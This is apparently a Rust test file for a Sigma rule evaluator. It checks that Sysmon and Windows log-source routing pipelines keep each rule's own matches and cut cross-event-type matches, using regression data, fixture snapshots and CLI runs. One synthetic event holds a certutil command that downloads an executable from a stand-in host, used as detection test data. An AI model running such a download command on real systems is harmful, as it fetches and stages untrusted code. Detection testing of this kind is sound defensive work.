//! Log-source routing for native evaluation: the built-in `sysmon` and `windows_logsources`
//! pipelines (pySigma-pipeline-sysmon / -windows, see `backends/pipelines/README.md`) add the
//! `EventID` and `Channel` conditions that a Sigma log source implies, so a rule stops matching
//! events of other Sysmon event types or other event logs that happen to hold its fields.
//!
//! * on the SigmaHQ regression data (`regression_data/**.json`, every rule with
//!   `regression_tests_path`): each rule matches its own events exactly as often as without
//!   the pipelines, and the matches of rules on other rules' events drop;
//! * the whole Windows catalog on the same events: routing only removes matches;
//! * `sigmat eval -r RULE -p sysmon EVENTS`: a process_creation rule no longer fires on a
//!   FileCreate (EventID 11) event holding its fields;
//! * snapshots of the pipelines, alone and chained, on fixture rules
//!   (`snapshots/pipeline@routing_*.snap`).

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use serde_json::{json, Value};
use sigmat::eval::compile_rule;
use sigmat::eval::input::EventReader;
use sigmat::ir::{Document, Rule};
use sigmat::pipeline::{self, Pipeline};
use sigmat::render::{Backend, Options as RenderOptions};

/// `-p sysmon -p windows_logsources`, in that order.
fn windows_routing() -> Vec<Pipeline> {
    ["sysmon", "windows_logsources"]
        .iter()
        .map(|n| Pipeline::builtin(n).unwrap_or_else(|| panic!("built-in {n} does not load")))
        .collect()
}

/// The regression rules (SigmaHQ rules with `regression_tests_path`) and their event files.
fn regression_rules(shared: &Path) -> Vec<(String, Rule, PathBuf)> {
    let sigma = shared.join("corpus/sigma");
    let mut out = Vec::new();
    for top in common::detection_folders(shared) {
        for e in walkdir::WalkDir::new(top)
            .sort_by_file_name()
            .into_iter()
            .filter_map(Result::ok)
        {
            let p = e.path();
            if !(p.extension().is_some_and(|x| x == "yml")
                && std::fs::read_to_string(p).is_ok_and(|t| t.contains("\nregression_tests_path:")))
            {
                continue;
            }
            let name = p.file_stem().unwrap().to_string_lossy().into_owned();
            let rule = match sigmat::sigma::load_file(p).into_iter().next() {
                Some(Ok(Document::Rule(r))) => r,
                other => panic!("{}: not a rule: {other:?}", p.display()),
            };
            let info_rel = rule.meta.custom["regression_tests_path"]
                .as_str()
                .unwrap()
                .to_string();
            let info: serde_yaml::Value =
                serde_yaml::from_str(&std::fs::read_to_string(sigma.join(&info_rel)).unwrap())
                    .unwrap();
            let evtx = info["regression_tests_info"][0]["path"].as_str().unwrap();
            let json = sigma.join(Path::new(evtx).with_extension("json"));
            out.push((name, rule, json));
        }
    }
    out
}

/// Every regression event, with the file it comes from.
fn regression_events(sigma: &Path) -> Vec<(PathBuf, Value)> {
    let mut out = Vec::new();
    for e in walkdir::WalkDir::new(sigma.join("regression_data"))
        .sort_by_file_name()
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.path().extension().is_some_and(|x| x == "json"))
    {
        for (_, ev) in EventReader::open(Some(e.path())).unwrap() {
            out.push((e.path().to_path_buf(), ev.unwrap()));
        }
    }
    out
}

/// An event's `(EventID, Channel)`, as text.
fn kind(ev: &Value) -> (String, String) {
    let sys = &ev["Event"]["System"];
    (sys["EventID"].to_string(), sys["Channel"].to_string())
}

/// What one configuration of pipelines gives on the regression data.
#[derive(Default)]
struct Counts {
    /// Matches of each rule on its own events.
    own: Vec<u64>,
    /// Matches of rules on other rules' events.
    cross: u64,
    /// The cross matches on an event whose `(EventID, Channel)` none of the rule's own events
    /// has (a process_creation rule firing on a FileCreate event...), described.
    foreign: Vec<String>,
    /// Rules that some processing item of the pipelines applied to.
    routed: usize,
}

fn match_counts(
    rules: &[(String, Rule, PathBuf)],
    events: &[(PathBuf, Value)],
    pipelines: &[Pipeline],
) -> Counts {
    let mut c = Counts::default();
    for (name, rule, own) in rules {
        let mut rule = rule.clone();
        pipeline::apply(pipelines, &mut rule).unwrap_or_else(|e| panic!("{name}: {}", e.render()));
        c.routed += usize::from(!rule.applied.is_empty());
        let compiled = compile_rule(&rule).unwrap_or_else(|e| panic!("{name}: {}", e.render()));
        let own_kinds: BTreeSet<_> = events
            .iter()
            .filter(|(f, _)| f == own)
            .map(|(_, ev)| kind(ev))
            .collect();
        let mut mine = 0;
        for (file, ev) in events {
            if !compiled.is_match(ev) {
                continue;
            }
            if file == own {
                mine += 1;
                continue;
            }
            c.cross += 1;
            if !own_kinds.contains(&kind(ev)) {
                let (id, channel) = kind(ev);
                c.foreign.push(format!(
                    "{name} on {} (EventID {id}, Channel {channel})",
                    file.file_name().unwrap().to_string_lossy()
                ));
            }
        }
        c.own.push(mine);
    }
    c
}

#[test]
fn sysmon_and_windows_logsources_keep_own_matches_and_cut_cross_matches() {
    let Some(shared) = common::shared_or_skip(
        "sysmon_and_windows_logsources_keep_own_matches_and_cut_cross_matches",
    ) else {
        return;
    };
    let sigma = shared.join("corpus/sigma");
    let rules = regression_rules(&shared);
    let events = regression_events(&sigma);
    assert!(
        rules.len() >= 200 && events.len() >= 238,
        "expected about 202 rules and 238 events, found {} and {}",
        rules.len(),
        events.len()
    );
    let before = match_counts(&rules, &events, &[]);
    let after = match_counts(&rules, &events, &windows_routing());

    // Every rule matches its own events exactly as often as without routing.
    let lost: Vec<String> = rules
        .iter()
        .zip(before.own.iter().zip(&after.own))
        .filter(|(_, (b, a))| a != b)
        .map(|((name, rule, _), (b, a))| format!("{name} ({:?}): {b} -> {a}", rule.logsource))
        .collect();
    let sum = |v: &[u64]| v.iter().sum::<u64>();
    eprintln!(
        "{} rules x {} events, -p sysmon -p windows_logsources routes {} rules:\n  \
         own matches {} -> {}\n  cross-rule matches {} -> {}\n  \
         cross-rule matches on another EventID/Channel {} -> {}",
        rules.len(),
        events.len(),
        after.routed,
        sum(&before.own),
        sum(&after.own),
        before.cross,
        after.cross,
        before.foreign.len(),
        after.foreign.len(),
    );
    for f in &before.foreign {
        eprintln!("  removed: {f}");
    }
    assert!(lost.is_empty(), "own matches changed:\n{}", lost.join("\n"));
    assert_eq!(after.routed, rules.len(), "every regression rule is routed");
    // The cross matches left are rules firing on events of their own log source (related
    // rules on the same behaviour); the ones on other event types are all gone.
    assert!(after.cross < before.cross);
    assert_eq!(before.cross - after.cross, before.foreign.len() as u64);
    assert!(after.foreign.is_empty(), "{}", after.foreign.join("\n"));
    assert!(!before.foreign.is_empty());
    // The figures of backends/pipelines/README.md ("Measured"); if the corpus or the evaluator
    // changes them, check the lists printed above and update both.
    assert_eq!(
        (sum(&before.own), before.cross, before.foreign.len()),
        (224, 58, 6),
        "before routing: own matches, cross-rule matches, cross on another EventID/Channel"
    );
    assert_eq!(
        (sum(&after.own), after.cross, after.foreign.len()),
        (224, 52, 0),
        "after routing: own matches, cross-rule matches, cross on another EventID/Channel"
    );
}

/// The whole Windows catalog (every `product: windows` rule) on the regression events: routing
/// only ever removes matches, and removes some.
#[test]
fn windows_catalog_on_regression_events_only_loses_cross_matches() {
    let Some(shared) =
        common::shared_or_skip("windows_catalog_on_regression_events_only_loses_cross_matches")
    else {
        return;
    };
    let sigma = shared.join("corpus/sigma");
    let dirs = common::detection_folders(&shared);
    let mut rules = Vec::new();
    for (_, docs) in sigmat::sigma::load_paths(&dirs) {
        for d in docs {
            if let Ok(Document::Rule(r)) = d {
                if r.logsource.product.as_deref() == Some("windows") {
                    rules.push(r);
                }
            }
        }
    }
    let routing = windows_routing();
    let routed: Vec<Rule> = rules
        .iter()
        .map(|r| {
            let mut r = r.clone();
            pipeline::apply(&routing, &mut r).unwrap_or_else(|e| panic!("{}", e.render()));
            r
        })
        .collect();
    let (before, errors_before) = sigmat::eval::RuleSet::compile(rules);
    let (after, errors_after) = sigmat::eval::RuleSet::compile(routed);
    let failed = |errs: &[(usize, sigmat::error::Error)]| -> BTreeSet<usize> {
        errs.iter().map(|(i, _)| *i).collect()
    };
    assert_eq!(failed(&errors_before), failed(&errors_after));
    let events = regression_events(&sigma);
    let (mut n_before, mut n_after) = (0usize, 0usize);
    for (file, ev) in &events {
        let b: BTreeSet<usize> = before
            .matches(ev)
            .iter()
            .map(|&i| before.info(i).index)
            .collect();
        let a: BTreeSet<usize> = after
            .matches(ev)
            .iter()
            .map(|&i| after.info(i).index)
            .collect();
        assert!(a.is_subset(&b), "{}: routing added matches", file.display());
        n_before += b.len();
        n_after += a.len();
    }
    eprintln!(
        "{} Windows catalog rules ({} not compiled) x {} regression events: \
         matches {n_before} -> {n_after} with -p sysmon -p windows_logsources",
        before.len(),
        errors_before.len(),
        events.len()
    );
    assert!(before.len() >= 2800);
    assert!(n_after < n_before);
    // README figures, as above.
    assert_eq!((n_before, n_after), (440, 352));
}

/// The pipeline chains the fixture snapshots show, by `-p` order.
const CHAINS: &[&[&str]] = &[
    &["sysmon"],
    &["windows_logsources"],
    &["sysmon", "windows_logsources"],
    // Same priority (10): ties run in the order given, so `sysmon` must come first for its
    // `service: sysmon` to get the Sysmon channel. Reversed, the channel is missing.
    &["windows_logsources", "sysmon"],
    &["windows_audit", "windows_logsources"],
];

fn fixture_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/pipelines/routing")
}

/// The fixture rule after each chain: its log source, the items applied, and its EQL query.
fn routed(fixture: &str) -> Value {
    // Named by its path relative to the crate, so error messages in snapshots do not depend
    // on where the repository is checked out.
    let rel = format!("tests/pipelines/routing/{fixture}.yml");
    let text = std::fs::read_to_string(fixture_dir().join(format!("{fixture}.yml"))).unwrap();
    let rule = match sigmat::sigma::parse_str(&text, Some(&rel))
        .into_iter()
        .next()
    {
        Some(Ok(Document::Rule(r))) => r,
        other => panic!("{rel}: {other:?}"),
    };
    let eql = Backend::builtin("eql").unwrap();
    let mut out = serde_json::Map::new();
    for chain in CHAINS {
        let pipelines: Vec<Pipeline> = chain
            .iter()
            .map(|n| Pipeline::builtin(n).unwrap())
            .collect();
        let mut r = rule.clone();
        let v = match pipeline::apply(&pipelines, &mut r) {
            Ok(()) => json!({
                "logsource": r.logsource,
                "applied": r.applied,
                "eql": eql
                    .convert(&r, &RenderOptions::default())
                    .map(|c| c.queries)
                    .unwrap_or_else(|e| vec![e.render()]),
            }),
            Err(e) => json!({ "error": e.render() }),
        };
        out.insert(chain.join(" + "), v);
    }
    Value::Object(out)
}

#[test]
fn routing_fixtures() {
    let mut names: Vec<String> = std::fs::read_dir(fixture_dir())
        .unwrap()
        .map(|e| {
            e.unwrap()
                .path()
                .file_stem()
                .unwrap()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    names.sort();
    assert_eq!(names.len(), 8);
    for name in names {
        let value = routed(&name);
        common::snapshot_settings()
            .bind(|| insta::assert_yaml_snapshot!(format!("pipeline@routing_{name}"), value));
    }
}

/// A Sysmon-shaped Windows event (as `regression_data` holds them).
fn windows_event(event_id: u64, channel: &str, data: &Value) -> String {
    json!({"Event": {
        "System": {"EventID": event_id, "Channel": channel, "Computer": "ws1"},
        "EventData": data,
    }})
    .to_string()
}

/// `sigmat eval -r proc_creation.yml [-p ...] EVENTS --format jsonl`: the matching records.
fn eval_records(pipelines: &[&str], events: &Path) -> Vec<u64> {
    let rule = fixture_dir().join("proc_creation.yml");
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_sigmat"));
    cmd.arg("eval").arg("-r").arg(&rule);
    for p in pipelines {
        cmd.args(["-p", p]);
    }
    let out = cmd
        .arg(events)
        .args(["--format", "jsonl"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{pipelines:?}: {stderr}");
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["record"]
                .as_u64()
                .unwrap()
        })
        .collect()
}

#[test]
fn cli_eval_with_sysmon_keeps_process_creation_rules_off_other_event_ids() {
    let process = json!({"Image": "C:\\Windows\\System32\\certutil.exe",
                         "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe"});
    let mut file_create = process.clone();
    file_create["TargetFilename"] = json!("C:\\Users\\u\\a.exe");
    let sysmon = "Microsoft-Windows-Sysmon/Operational";
    let events = [
        // 1: Sysmon process creation (event 1): the rule's own kind of event.
        windows_event(1, sysmon, &process),
        // 2: Sysmon FileCreate (event 11) holding the same Image and CommandLine.
        windows_event(11, sysmon, &file_create),
        // 3: EventID 1 in another log (not Sysmon's).
        windows_event(1, "Application", &process),
    ];
    let path = Path::new(env!("CARGO_TARGET_TMPDIR")).join("pipeline_routing_events.json");
    std::fs::write(&path, events.join("\n") + "\n").unwrap();

    // Without routing the rule fires on every event holding its fields.
    assert_eq!(eval_records(&[], &path), [1, 2, 3]);
    // `-p sysmon` adds EventID 1: the FileCreate event no longer matches.
    assert_eq!(eval_records(&["sysmon"], &path), [1, 3]);
    // `-p windows_logsources` adds the Sysmon channel to what `sysmon` made `service: sysmon`.
    assert_eq!(eval_records(&["sysmon", "windows_logsources"], &path), [1]);
    // Both have priority 10 and ties run in the order given: reversed, no channel is added.
    assert_eq!(
        eval_records(&["windows_logsources", "sysmon"], &path),
        [1, 3]
    );
}
